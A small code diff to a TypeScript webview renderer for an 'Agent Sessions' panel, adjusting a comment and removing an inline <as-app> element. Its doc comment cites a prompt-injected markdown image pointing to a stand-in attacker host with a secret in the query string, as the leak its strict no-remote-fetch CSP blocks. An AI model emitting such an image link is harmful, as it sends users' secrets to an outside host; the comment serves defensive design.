@@ -1,5 +1,5 @@
 /**
- * The webview document: strict CSP with a per-load nonce, no inline script, everything loaded
+ * The webview document: strict CSP with a per-load nonce, no inline script (dist/webview.js mounts <as-app> itself), everything loaded
  * from dist/ through asWebviewUri. No remote fetches of any kind (img/connect/frame are local or none),
  * so a prompt-injected `![](https://attacker/?q=secret)` cannot leak anything.
  */
@@ -47,7 +47,6 @@ export function renderWebviewHtml(o: WebviewHtmlOptions): string {
 <title>Agent Sessions</title>
 </head>
 <body data-surface="${o.surface}">
-<as-app></as-app>
 <script type="module" nonce="${esc(o.nonce)}" src="${esc(o.scriptUri)}"></script>
 </body>
 </html>`;
